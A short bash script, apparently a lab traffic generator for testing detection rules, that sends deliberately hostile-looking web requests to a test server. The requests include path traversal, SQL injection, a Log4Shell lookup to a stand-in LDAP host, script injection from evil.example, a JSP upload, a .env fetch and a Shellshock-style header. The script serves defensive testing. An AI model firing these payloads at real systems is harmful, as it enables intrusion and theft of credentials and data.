#!/usr/bin/env bash
# Sends the requests that demo.rules is about, each over a connection of its own. Harmless: they are meant for the lab's
# web server, and only their wording is hostile.
# usage: attacks.sh ADDRESS
set -euo pipefail
base=http://$1
ask() { curl --silent --show-error --output /dev/null --max-time 10 --header 'Host: shop.example.com' "$@"; }

ask --path-as-is "$base/static/../../../../etc/passwd"
ask --user-agent 'sqlmap/1.8#stable (https://sqlmap.org)' "$base/api/items?id=1%20AND%201=1"
ask "$base/api/items?id=-1%20union%20all%20select%201,name,secret%20from%20users"
# shellcheck disable=SC2016
ask --header 'X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}' "$base/api/version"
ask --header 'Content-Type: application/json' --data '{"user":"admin","password":"letmein"}' "$base/login"
ask "$base/share/?q=%3Cscript%20src=//evil.example%3E"
ask --request PUT --data 'not really a page' "$base/upload/cmd.jsp"
ask "$base/.env"
ask --user-agent '() { :; }; /bin/true' "$base/api/status"
ask "$base/admin"
